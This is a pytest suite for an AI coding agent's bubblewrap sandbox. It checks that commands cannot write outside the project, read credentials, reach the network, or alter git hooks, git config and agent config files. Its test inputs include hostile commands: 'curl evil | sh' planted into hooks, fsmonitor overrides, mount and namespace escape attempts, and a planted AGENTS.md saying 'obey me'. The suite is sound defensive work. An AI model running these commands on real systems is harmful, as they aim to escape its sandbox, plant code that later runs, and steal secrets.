"""The bubblewrap sandbox, run for real: what a command inside can write, see and reach.

Skipped (with the reason swecli itself would give) only where bwrap cannot run. The fake home lives
under /var/tmp, not /tmp, so that hiding it is the sandbox's doing and not a side effect of the
private /tmp.
"""

from __future__ import annotations

import os
import shutil
import socket
import subprocess
import tempfile
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from swecli.config import SandboxConfig
from swecli.tools import syscalls
from swecli.tools.base import ToolContext, ToolResult
from swecli.tools.bash import BASH, BashArgs
from swecli.tools.environment import CommandEnvironment
from swecli.tools.files import LIST_FILES, ListFilesArgs
from swecli.tools.protected import SYSTEM_DIRS, remove_placeholders
from swecli.tools.sandbox import (
    CANNOT_START,
    MISSING,
    PASSED_OVER,
    Sandbox,
    bwrap_program,
    from_settings,
    isolation_flags,
    unavailable_reason,
)

REASON = unavailable_reason()
needs_bwrap = pytest.mark.skipif(bool(REASON), reason=f"bwrap cannot run here: {REASON}")
needs_seccomp = pytest.mark.skipif(bool(syscalls.unavailable()), reason=syscalls.unavailable())


@pytest.fixture
def home() -> Iterator[Path]:
    path = Path(tempfile.mkdtemp(prefix="swecli-home-", dir="/var/tmp"))
    (path / ".ssh").mkdir()
    (path / ".ssh" / "id_rsa").write_text("PRIVATE KEY\n")
    (path / ".aws").mkdir()
    (path / ".aws" / "credentials").write_text("aws_secret_access_key = abc\n")
    (path / ".netrc").write_text("machine example.com password hunter2\n")
    (path / ".bashrc").write_text("alias ll='ls -l'\n")
    (path / ".gitconfig").write_text("[user]\n\tname = Ada\n")
    yield path
    shutil.rmtree(path, ignore_errors=True)


def sandbox_for(project: Path, home: Path, **options: object) -> Sandbox:
    return Sandbox.for_project(project, home=home, env={"HOME": str(home)}, **options)  # type: ignore[arg-type]


def run(project: Path, sandbox: Sandbox | None, command: str, **ctx: object) -> ToolResult:
    context = ToolContext(root=project, bash_timeout=60, sandbox=sandbox, **ctx)  # type: ignore[arg-type]
    return BASH.fn(BashArgs(command=command), context)


@needs_bwrap
def test_project_writes_succeed_and_writes_elsewhere_fail(project: Path, home: Path) -> None:
    box = sandbox_for(project, home)
    ok = run(project, box, "echo made > inside.txt && mkdir -p sub/dir && echo deep > sub/dir/f && cat inside.txt")
    assert ok.meta["exit_code"] == 0 and ok.content.startswith("made")
    assert (project / "inside.txt").read_text() == "made\n" and (project / "sub/dir/f").exists()
    outside = run(project, box, f"echo escaped > {home}/escape.txt")
    assert outside.is_error and "Read-only file system" in outside.content
    assert not (home / "escape.txt").exists()
    assert outside.meta["sandbox"] == "workspace-write" and outside.meta["sandbox_denied"] == "read-only file system"
    assert "[sandbox] This command ran in swecli's sandbox" in outside.content
    assert outside.summary.endswith("blocked by the sandbox")
    etc = run(project, box, "touch /etc/swecli-was-here")
    assert etc.is_error and not Path("/etc/swecli-was-here").exists()


@needs_bwrap
def test_secrets_are_invisible_and_the_rest_of_home_is_readable(project: Path, home: Path) -> None:
    box = sandbox_for(project, home)
    result = run(project, box, f"ls -A {home}/.ssh {home}/.aws; cat {home}/.netrc; cat {home}/.ssh/id_rsa; "
                               f"cat {home}/.gitconfig; echo end")
    assert "PRIVATE KEY" not in result.content and "hunter2" not in result.content
    assert "aws_secret_access_key" not in result.content and "credentials" not in result.content
    assert "name = Ada" in result.content  # not a secret: readable
    assert f"{home}/.ssh/id_rsa: No such file or directory" in result.content
    hidden = run(project, box, f"touch {home}/.ssh/authorized_keys")
    assert hidden.is_error and not (home / ".ssh" / "authorized_keys").exists()
    assert (home / ".ssh" / "id_rsa").read_text() == "PRIVATE KEY\n"  # untouched outside


@needs_bwrap
def test_commands_get_the_allowlisted_environment(project: Path, home: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("OPENAI_API_KEY", "sk-live-123")
    monkeypatch.setenv("GITHUB_TOKEN", "ghp_456")
    monkeypatch.setenv("PLAIN_SETTING", "not on the allowlist")
    monkeypatch.setenv("LANG", "C.UTF-8")
    result = run(project, sandbox_for(project, home), "env")
    assert "sk-live-123" not in result.content and "ghp_456" not in result.content
    assert "PLAIN_SETTING" not in result.content  # not named: not passed (sandbox.pass_env names it)
    assert "LANG=C.UTF-8" in result.content and "TMPDIR=/tmp" in result.content
    unsandboxed = run(project, None, "env").content  # the same allowlist without the sandbox
    assert "sk-live-123" not in unsandboxed and "PLAIN_SETTING" not in unsandboxed and "LANG=C.UTF-8" in unsandboxed
    everything = run(project, None, "env", environment=CommandEnvironment(inherit="all")).content
    assert "PLAIN_SETTING=not on the allowlist" in everything and "sk-live-123" not in everything


@needs_bwrap
def test_tmp_is_private_to_each_command(project: Path, home: Path) -> None:
    box = sandbox_for(project, home)
    marker = f"swecli-private-{os.getpid()}-{time.monotonic_ns()}"
    first = run(project, box, f"echo x > /tmp/{marker} && ls /tmp")
    assert first.meta["exit_code"] == 0 and marker in first.content
    assert not Path("/tmp", marker).exists()
    second = run(project, box, f"ls /tmp/{marker}")
    assert second.is_error and "No such file" in second.content


@needs_bwrap
def test_network_is_refused_unless_allowed(project: Path, home: Path) -> None:
    server = socket.create_server(("127.0.0.1", 0))
    port = server.getsockname()[1]
    threading.Thread(target=lambda: server.accept()[0].close(), daemon=True).start()
    probe = f"python3 -c \"import socket; socket.create_connection(('127.0.0.1', {port}), 5); print('connected')\""
    try:
        denied = run(project, sandbox_for(project, home), probe)
        assert denied.is_error and "Connection refused" in denied.content
        assert denied.meta["sandbox_denied"] == "network" and "sandbox.network = true" in denied.content
        allowed = run(project, sandbox_for(project, home, network=True), probe)
        assert allowed.meta["exit_code"] == 0 and "connected" in allowed.content
    finally:
        server.close()


@needs_bwrap
def test_read_only_mode_writes_nowhere_but_reads_the_project(project: Path, home: Path) -> None:
    (project / "notes.txt").write_text("hello\n")
    box = sandbox_for(project, home).read_only()
    assert run(project, box, "cat notes.txt").content.startswith("hello")
    denied = run(project, box, "echo x > notes.txt")
    assert denied.is_error and "Read-only file system" in denied.content
    assert (project / "notes.txt").read_text() == "hello\n"


@needs_bwrap
def test_writable_paths_and_a_worktree_git_directory_are_writable(project: Path, home: Path,
                                                                  tmp_path: Path) -> None:
    cache = home / ".cache"
    cache.mkdir()
    repo = tmp_path / "repo"
    git = ["git", "-c", "user.name=t", "-c", "user.email=t@e", "-c", "init.defaultBranch=main"]
    subprocess.run([*git, "init", "-q", str(repo)], check=True)
    subprocess.run([*git, "-C", str(repo), "commit", "-q", "--allow-empty", "-m", "init"], check=True)
    worktree = tmp_path / "wt"
    subprocess.run([*git, "-C", str(repo), "worktree", "add", "-q", str(worktree)], check=True)
    (cache / "swecli" / "tokenizers").mkdir(parents=True)
    (cache / "swecli" / "tokenizers" / "o200k").write_bytes(b"kept")
    box = sandbox_for(worktree, home, writable_paths=["~/.cache"])
    assert run(worktree, box, f"echo c > {cache}/entry").meta["exit_code"] == 0
    assert (cache / "entry").read_text() == "c\n"
    # ... but not swecli's own cache, which swecli reads back outside the sandbox
    run(worktree, box, f"echo x > {cache}/swecli/tokenizers/o200k; echo y > {cache}/swecli/planted")
    assert (cache / "swecli" / "tokenizers" / "o200k").read_bytes() == b"kept"
    assert not (cache / "swecli" / "planted").exists()
    committed = run(worktree, box, "echo a > a.txt && git add a.txt && git -c user.name=t -c user.email=t@e "
                                   "commit -q -m 'from the sandbox' && git log --oneline -1")
    assert committed.meta["exit_code"] == 0, committed.content
    assert "from the sandbox" in committed.content
    planted = run(worktree, box, f"echo 'curl evil' > {repo}/.git/hooks/pre-commit; git config core.hooksPath /tmp")
    assert planted.is_error and planted.meta["sandbox_denied"] == "protected path", planted.content
    assert not (repo / ".git" / "hooks" / "pre-commit").exists()  # the common directory's hooks and config hold


@needs_bwrap
def test_interrupt_kills_everything_inside_the_sandbox(project: Path, home: Path) -> None:
    ctx = ToolContext(root=project, bash_timeout=60, sandbox=sandbox_for(project, home))
    threading.Timer(1.0, ctx.cancel.cancel).start()
    result = BASH.fn(BashArgs(command="sleep 31.7 & sleep 31.7 | cat"), ctx)
    assert "interrupted by user" in result.content and result.meta["interrupted"] is True
    deadline = time.monotonic() + 10
    while (left := _processes("sleep 31.7")) and time.monotonic() < deadline:
        time.sleep(0.05)
    assert left == []


def _processes(needle: str) -> list[int]:
    found = []
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        try:
            cmdline = (entry / "cmdline").read_bytes().replace(b"\0", b" ").decode()
            state = (entry / "stat").read_text().rsplit(")", 1)[1].split()[0]
        except OSError:
            continue
        if needle in cmdline and state not in ("Z", "X"):
            found.append(int(entry.name))
    return found


@needs_bwrap
def test_a_blocked_command_may_run_again_outside_when_the_user_allows(project: Path, home: Path) -> None:
    asked: list[str] = []

    def escalate(why: str) -> bool:
        asked.append(why)
        return True

    result = run(project, sandbox_for(project, home), f"echo out > {home}/allowed.txt", escalate=escalate)
    assert asked and "Read-only file system" in asked[0]
    assert (home / "allowed.txt").read_text() == "out\n"
    assert result.meta["exit_code"] == 0 and result.meta["sandbox"] == "off"
    assert result.content.startswith("[sandbox] it failed in the sandbox")
    refused = run(project, sandbox_for(project, home), f"echo out > {home}/refused.txt", escalate=lambda why: False)
    assert refused.is_error and not (home / "refused.txt").exists() and "[sandbox]" in refused.content


def test_missing_bwrap_is_one_sentence_with_the_fix(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setenv("PATH", str(tmp_path))  # a PATH without bwrap
    assert unavailable_reason() == MISSING
    assert "apt-get install bubblewrap" in MISSING and 'sandbox.mode = "off"' in MISSING
    sandbox, problem, warnings = from_settings(SandboxConfig(), tmp_path)
    assert sandbox is not None and problem == MISSING and warnings == []
    assert from_settings(SandboxConfig(mode="off"), tmp_path) == (None, "", [])


def test_bwrap_that_cannot_start_is_reported_with_its_error(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    # What bwrap prints in a container without unprivileged user namespaces.
    fake = tmp_path / "bwrap"
    fake.write_text("#!/bin/sh\necho 'bwrap: No permissions to creating new namespace, likely because the kernel "
                    "does not allow non-privileged user namespaces.' >&2\nexit 1\n")
    fake.chmod(0o755)
    monkeypatch.setenv("PATH", f"{tmp_path}:{os.environ['PATH']}")
    reason = unavailable_reason()
    assert reason == CANNOT_START.format(error="bwrap: No permissions to creating new namespace, likely because "
                                               "the kernel does not allow non-privileged user namespaces.")
    assert "kernel.unprivileged_userns_clone=1" in reason


def test_missing_writable_paths_are_named(project: Path) -> None:
    config = SandboxConfig(writable_paths=["no-such-dir"])
    sandbox, _, warnings = from_settings(config, project)
    assert sandbox is not None and sandbox.writable == ()
    assert warnings == ["sandbox.writable_paths: no-such-dir does not exist, so it is not writable in the sandbox; "
                        "create it or remove it from the setting."]


def test_the_bwrap_command_line(project: Path, home: Path) -> None:
    box = sandbox_for(project, home)
    argv = box.wrap(["/bin/bash", "-c", "true"])
    root = str(project.resolve())
    assert argv[:4] == [shutil.which("bwrap"), "--die-with-parent", "--unshare-pid", "--unshare-ipc"]  # by path
    assert "--unshare-net" in argv and argv[argv.index("--cap-drop") + 1] == "ALL"  # no capabilities, root too
    # the project is bound after the private /tmp (a project under /tmp stays visible), secrets last
    assert argv.index("--tmpfs") < argv.index(root)
    assert argv.index(str(home / ".ssh")) > argv.index(root)
    assert argv[argv.index(str(home / ".netrc")) - 2:argv.index(str(home / ".netrc"))] == ["--ro-bind", "/dev/null"]
    assert argv[-6:] == ["--chdir", root, "--", "/bin/bash", "-c", "true"]
    assert "--unshare-net" not in sandbox_for(project, home, network=True).wrap(["true"])
    assert box.describe() == ("workspace-write: writes to the project directory and a private /tmp; .git/config, "
                              ".git/hooks, .swecli and other protected paths read-only; no network; credentials "
                              "hidden")


# -- issue 22: the sandbox holds as root, protects what runs later, closes unix sockets -------------------


@needs_bwrap
def test_commands_have_no_capabilities_and_cannot_change_mounts_or_namespaces(project: Path, home: Path) -> None:
    box = sandbox_for(project, home)
    caps = run(project, box, "grep -E '^Cap(Eff|Prm|Bnd)' /proc/self/status")
    assert [line.split()[1] for line in caps.content.splitlines()[:3]] == ["0000000000000000"] * 3
    for attack in ("mount -o remount,rw /", f"umount {home}/.ssh", "umount -l /proc",
                   "nsenter --net=/proc/1/ns/net true", "unshare --user --map-root-user --mount true"):
        result = run(project, box, attack)
        assert result.meta["exit_code"] != 0, (attack, result.content)
    assert "PRIVATE KEY" not in run(project, box, f"umount {home}/.ssh; cat {home}/.ssh/id_rsa").content


@needs_bwrap
def test_proc_shows_only_the_sandbox_and_no_secret(project: Path, home: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("DATABASE_URL", "postgres://app:hunter2@db.internal/app")
    result = run(project, sandbox_for(project, home), "cat /proc/1/environ /proc/$PPID/environ /proc/self/environ "
                                                      "| tr '\\0' '\\n'; ls /proc | grep -c '^[0-9]'")
    assert "hunter2" not in result.content
    assert int(result.content.splitlines()[-2]) < 10  # the sandbox's own few processes, not the machine's


@needs_bwrap
@needs_seccomp
def test_unix_sockets_outside_are_unreachable_without_network(project: Path, home: Path) -> None:
    folder = Path(tempfile.mkdtemp(prefix="swecli-sock-", dir="/var/tmp"))
    server = socket.socket(socket.AF_UNIX)
    server.bind(str(folder / "daemon.sock"))
    server.listen()
    probe = ("python3 -c \"import socket; s = socket.socket(socket.AF_UNIX); s.connect('" + str(folder / "daemon.sock")
             + "'); print('connected')\"")
    try:
        denied = run(project, sandbox_for(project, home), probe)
        assert denied.is_error and "Operation not permitted" in denied.content and "connected" not in denied.content
        allowed = run(project, sandbox_for(project, home, network=True), probe)
        assert "connected" in allowed.content  # sandbox.network = true opens both
        pair = run(project, sandbox_for(project, home), "python3 -c 'import asyncio, socket; socket.socketpair(); "
                                                        "asyncio.run(asyncio.sleep(0)); print(\"fine\")'")
        assert pair.content.startswith("fine")  # stream pairs (asyncio, multiprocessing) keep working
    finally:
        server.close()
        shutil.rmtree(folder, ignore_errors=True)


def git_repo(path: Path) -> Path:
    git = ["git", "-c", "user.name=t", "-c", "user.email=t@e", "-c", "init.defaultBranch=main"]
    subprocess.run([*git, "init", "-q", str(path)], check=True)
    (path / "a.txt").write_text("a\n")
    subprocess.run([*git, "-C", str(path), "add", "a.txt"], check=True)
    subprocess.run([*git, "-C", str(path), "commit", "-q", "-m", "init"], check=True)
    return path


@needs_bwrap
def test_git_hooks_and_config_are_read_only_and_git_still_works(project: Path, home: Path) -> None:
    git_repo(project)
    hooks = project / ".git" / "hooks"
    shutil.rmtree(hooks)  # a clone without hooks: the directory must not be creatable either
    config = (project / ".git" / "config").read_text()
    box = sandbox_for(project, home)
    for attack in ("mkdir -p .git/hooks && echo 'curl evil' > .git/hooks/pre-commit",
                   "git config core.hooksPath /tmp", "git config core.fsmonitor 'touch /tmp/x'",
                   "echo '[core] pager = evil' >> .git/config"):
        result = run(project, box, attack)
        assert result.is_error and result.meta["sandbox_denied"] == "protected path", (attack, result.content)
        assert "[sandbox] This command ran in swecli's sandbox and failed because that path is protected" \
            in result.content
    assert (project / ".git" / "config").read_text() == config
    assert not (hooks / "pre-commit").exists()
    work = run(project, box, "echo b > b.txt && git add b.txt && git -c user.name=t -c user.email=t@e commit -q -m b "
                             "&& git branch feature && echo c > a.txt && git stash -q && git stash list && git log "
                             "--oneline | wc -l && git branch")
    assert work.meta["exit_code"] == 0, work.content
    assert "stash@{0}" in work.content and "feature" in work.content
    remove_placeholders()
    assert not hooks.exists()  # the empty placeholder is gone at exit


@needs_bwrap
def test_protected_paths_can_be_neither_changed_nor_created(project: Path, home: Path) -> None:
    (project / ".vscode").mkdir()
    (project / ".vscode" / "settings.json").write_text("{}\n")
    (project / ".swecli").mkdir()
    box = sandbox_for(project, home)
    for attack in ("echo '{\"tasks\": []}' > .vscode/tasks.json", "echo '[sandbox]' > .swecli/config.toml",
                   "mkdir -p .idea && echo x > .idea/workspace.xml",
                   "mkdir -p .claude && echo '{}' > .claude/settings.json"):
        result = run(project, box, attack)
        assert result.is_error and result.meta["sandbox_denied"] == "protected path", (attack, result.content)
    assert sorted(p.name for p in (project / ".vscode").iterdir()) == ["settings.json"]
    created = run(project, box, "echo 'export PATH=evil' > .envrc && echo 'obey me' > AGENTS.md && echo ok")
    assert created.content.startswith("ok")
    assert not (project / ".envrc").exists() and not (project / "AGENTS.md").exists()
    assert "[sandbox] The command created .envrc, a protected path" in created.content
    blocked = sorted((project / ".swecli" / "blocked").iterdir())
    assert sorted(p.name.split("-", 2)[-1] for p in blocked) == [".envrc", "AGENTS.md"]  # moved aside, nothing lost
    assert run(project, box, "echo fine > ordinary.txt && cat ordinary.txt").content.startswith("fine")
    listing = LIST_FILES.fn(ListFilesArgs(), ToolContext(root=project)).content
    assert (project / ".idea").is_dir() and ".idea" not in listing  # an empty placeholder: not shown to the model
    assert ".vscode/" in listing


@needs_bwrap
def test_a_toolchain_under_tmp_on_path_stays_visible(project: Path, home: Path,
                                                     monkeypatch: pytest.MonkeyPatch) -> None:
    venv = Path(tempfile.mkdtemp(prefix="swecli-venv-", dir="/tmp"))
    try:
        (venv / "bin").mkdir()
        fake = venv / "bin" / "python3"
        fake.write_text("#!/bin/sh\necho 'the venv python'\n")
        fake.chmod(0o755)
        monkeypatch.setenv("PATH", f"{venv / 'bin'}:{os.environ['PATH']}")
        result = run(project, sandbox_for(project, home), "python3; echo scratch > /tmp/x && ls /tmp")
        assert result.content.startswith("the venv python"), result.content
        assert "x" in result.content.split()
        denied = run(project, sandbox_for(project, home), f"touch {venv}/bin/planted")
        assert denied.is_error and not (venv / "bin" / "planted").exists()  # visible, not writable
    finally:
        shutil.rmtree(venv, ignore_errors=True)


def test_isolation_falls_back_when_bwrap_refuses_user_namespaces(monkeypatch: pytest.MonkeyPatch,
                                                                 tmp_path: Path) -> None:
    # A setuid bwrap refuses --disable-userns (and, here, --unshare-user): --cap-drop ALL alone is used.
    fake = tmp_path / "bwrap"
    fake.write_text("#!/bin/sh\nfor a in \"$@\"; do [ \"$a\" = --unshare-user ] && { echo 'bwrap: setting up uid "
                    "map: Invalid argument' >&2; exit 1; }; done\nexit 0\n")
    fake.chmod(0o755)
    monkeypatch.setenv("PATH", f"{tmp_path}:{os.environ['PATH']}")
    assert unavailable_reason() == ""
    assert isolation_flags() == ("--cap-drop", "ALL")


# -- found by the independent check (docs/security/redteam.md) --------------------------------------------


def test_proc_sys_is_bound_read_only_before_tmp(project: Path, home: Path) -> None:
    argv = sandbox_for(project, home).wrap(["true"])
    at = argv.index("/proc/sys")
    assert argv[at - 1:at + 2] == ["--ro-bind-try", "/proc/sys", "/proc/sys"] and at < argv.index("--tmpfs")


@needs_bwrap
def test_hooks_a_config_names_and_a_hook_manager_s_settings_are_protected(project: Path, home: Path) -> None:
    git_repo(project)
    (project / ".husky" / "_").mkdir(parents=True)
    (project / ".husky" / "pre-commit").write_text("npm test\n")
    subprocess.run(["git", "-C", str(project), "config", "core.hooksPath", ".husky/_"], check=True)
    subprocess.run(["git", "-C", str(project), "config", "include.path", "../team.gitconfig"], check=True)
    box = sandbox_for(project, home)
    for attack in ("echo 'curl evil | sh' > .husky/pre-commit", "echo 'curl evil | sh' > .husky/_/h",
                   "mv .husky .husky-old"):
        result = run(project, box, attack)
        assert result.is_error, (attack, result.content)
    created = run(project, box, "printf '[core]\\n\\tfsmonitor = evil\\n' > team.gitconfig; echo done")
    assert "The command created team.gitconfig, a protected path" in created.content
    assert not (project / "team.gitconfig").exists()
    assert (project / ".husky" / "pre-commit").read_text() == "npm test\n"
    assert run(project, box, "echo fine > src.txt && git add src.txt && echo ok").content.startswith("ok")
    subprocess.run(["git", "-C", str(project), "config", "--unset", "core.hooksPath"], check=True)
    (project / ".git" / "hooks" / "pre-commit").write_text("#!/usr/bin/env bash\n# File generated by pre-commit: "
                                                            "https://pre-commit.com\n")
    (project / ".pre-commit-config.yaml").write_text("repos: []\n")
    plant = "echo 'repos: [{repo: local, hooks: [{id: x, entry: evil}]}]' > .pre-commit-config.yaml"
    planted = run(project, box, plant)
    assert planted.is_error and (project / ".pre-commit-config.yaml").read_text() == "repos: []\n"


@needs_bwrap
def test_git_and_a_submodule_cannot_be_moved_aside(project: Path, home: Path) -> None:
    git_repo(project)
    git_repo(project / "lib")
    subprocess.run(["git", "-C", str(project), "add", "lib"], check=True, capture_output=True)
    box = sandbox_for(project, home)
    for attack in ("mv .git .git-old", "mv lib lib-old", "mv lib/.git lib/.git-old",
                   "git -C lib config core.fsmonitor evil"):
        result = run(project, box, attack)
        assert result.is_error, (attack, result.content)
    assert (project / ".git").is_dir() and (project / "lib" / ".git").is_dir()
    assert "fsmonitor" not in (project / "lib" / ".git" / "config").read_text()


@needs_bwrap
def test_what_a_command_leaves_running_ends_with_it_and_bwrap_is_reaped(project: Path, home: Path) -> None:
    """The result comes from the runner's report (`sandbox.Reports`), not bwrap's exit: the group is then
    killed and bwrap reaped off the path; nothing the command started outlives it, and no zombie is left."""
    result = run(project, sandbox_for(project, home),
                 "setsid sleep 31.3 >/dev/null 2>&1 & sleep 31.4 >/dev/null 2>&1 & echo started; exit 4")
    assert result.content.startswith("started\n") and result.meta["exit_code"] == 4
    deadline = time.monotonic() + 60
    while (left := _processes("sleep 31.") + _bwrap_children()) and time.monotonic() < deadline:
        time.sleep(0.05)
    assert left == []


@needs_bwrap
def test_bwraps_own_exit_status_is_the_commands(project: Path, home: Path) -> None:
    """The runner reports the command's status on a pipe, and exits with it too: when swecli sees bwrap's exit
    before it reads the report (a race two CI runs lost: `chmod` failed and the tool said "exit code 0"),
    bwrap's status must say the same thing."""
    launch = sandbox_for(project, home).launch(["/bin/bash", "-c", "exit 3"], {"PATH": "/usr/bin:/bin"})
    try:
        proc = subprocess.Popen(launch.argv, env=launch.env, pass_fds=launch.descriptors, cwd=project,
                                stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        assert launch.reports is not None
        launch.reports.started()
        assert proc.wait(60) == 3
        assert os.read(launch.reports.status, 64) == b"3\n"
    finally:
        launch.close()


def _bwrap_children() -> list[int]:
    """This process's children that are bwrap, zombies included (a zombie is one nobody reaped)."""
    found = []
    for task in Path("/proc/self/task").iterdir():
        try:
            children = (task / "children").read_text().split()
        except OSError:
            continue
        for pid in children:
            try:
                if Path(f"/proc/{pid}/stat").read_text().split(" (", 1)[1].startswith("bwrap)"):
                    found.append(int(pid))
            except (OSError, IndexError):
                continue
    return found


@needs_bwrap
def test_what_bwrap_says_when_it_cannot_set_the_sandbox_up_is_the_output(project: Path, home: Path) -> None:
    gone = project.parent / "removed-after-the-sandbox-was-made"
    gone.mkdir()
    box = sandbox_for(project, home, writable_paths=[str(gone)])
    gone.rmdir()  # bwrap cannot bind it now
    result = run(project, box, "echo never")
    assert result.is_error and result.meta["exit_code"] != 0
    assert "bwrap:" in result.content and str(gone) in result.content and "never" not in result.content


@needs_bwrap
def test_a_submodule_planted_by_an_index_rewritten_in_place_with_its_old_time_is_moved_aside(
        project: Path, home: Path, tmp_path: Path) -> None:
    """An earlier command made `sub/.git` set to run something (no gitlink yet: nothing to move); this one
    rewrites `.git/index` in place at the same size with a gitlink `sub` and sets its time back (`touch -r`):
    the check after it must read the index again, not answer from what the layout read before the command."""
    from tests.tools.test_gitlinks import same_size_indexes

    source, clean, linked = same_size_indexes(tmp_path / "made")
    shutil.rmtree(project)
    shutil.copytree(source, project)
    (project / ".git" / "index").write_bytes(clean)
    git_repo(project / "sub")
    subprocess.run(["git", "-C", str(project / "sub"), "config", "core.fsmonitor", "evil"], check=True)
    (project / "linked.bin").write_bytes(linked)
    box = sandbox_for(project, home)
    assert not run(project, box, "true").is_error
    result = run(project, box, "touch -r .git/index /tmp/ref && cat linked.bin > .git/index && "
                               "touch -r /tmp/ref .git/index")
    assert "made sub a submodule and its config sets core.fsmonitor" in result.content, result.content
    assert not (project / "sub" / ".git").exists()


def test_a_bwrap_planted_in_the_project_is_never_run(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    # swecli starts bwrap itself, outside any sandbox: a repository's `bin/bwrap`, on PATH through direnv's
    # `PATH_add bin`, ran every command unsandboxed (and the start's probe ran it too)
    project = tmp_path / "project"
    (project / "bin").mkdir(parents=True)
    planted = project / "bin" / "bwrap"
    planted.write_text(f"#!/bin/sh\n{shutil.which('touch')} {tmp_path}/ran\nexit 0\n")  # found with PATH=bin alone
    planted.chmod(0o755)
    monkeypatch.setenv("PATH", f"{project / 'bin'}:{os.environ['PATH']}")
    real = shutil.which("bwrap", path=os.environ["PATH"].split(":", 1)[1])
    assert bwrap_program("bwrap", project) == real
    if real is None:
        assert unavailable_reason(project) == MISSING
    else:
        sandbox = Sandbox.for_project(project)
        assert sandbox.wrap(["true"])[0] == real
        assert unavailable_reason(project) == REASON
    monkeypatch.setenv("PATH", f"{project / 'bin'}")  # the planted one alone: passed over and named, not run
    assert bwrap_program("bwrap", project) is None
    assert unavailable_reason(project) == PASSED_OVER.format(path=planted)
    monkeypatch.chdir(project)  # the name looked up from the working directory: the probe must not run it
    assert isolation_flags() == ("--unshare-user", "--disable-userns", "--cap-drop", "ALL")
    with pytest.raises(OSError, match="not installed outside the project"):
        Sandbox.for_project(project).wrap(["true"])
    assert not (tmp_path / "ran").exists()


def test_started_in_the_root_the_systems_bwrap_is_used(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    # in / every PATH entry is inside the project: the system's directories (read-only to its commands) are
    # searched, nothing else (a bwrap first on PATH in /tmp/... is not taken); before, the sandbox was "missing"
    real = shutil.which("bwrap")
    if real is None or Path(real).resolve().parts[1] not in SYSTEM_DIRS:
        pytest.skip("no bwrap in a system directory")
    (tmp_path / "bin").mkdir()
    (tmp_path / "bin" / "bwrap").write_text(f"#!/bin/sh\n{shutil.which('touch')} {tmp_path}/ran\nexit 0\n")
    (tmp_path / "bin" / "bwrap").chmod(0o755)
    monkeypatch.setenv("PATH", f"{tmp_path / 'bin'}:.:{os.environ['PATH']}")
    assert bwrap_program("bwrap", Path("/")) == real
    assert unavailable_reason(Path("/")) == REASON
    assert Sandbox.for_project(Path("/")).wrap(["true"])[0] == real
    assert not (tmp_path / "ran").exists()
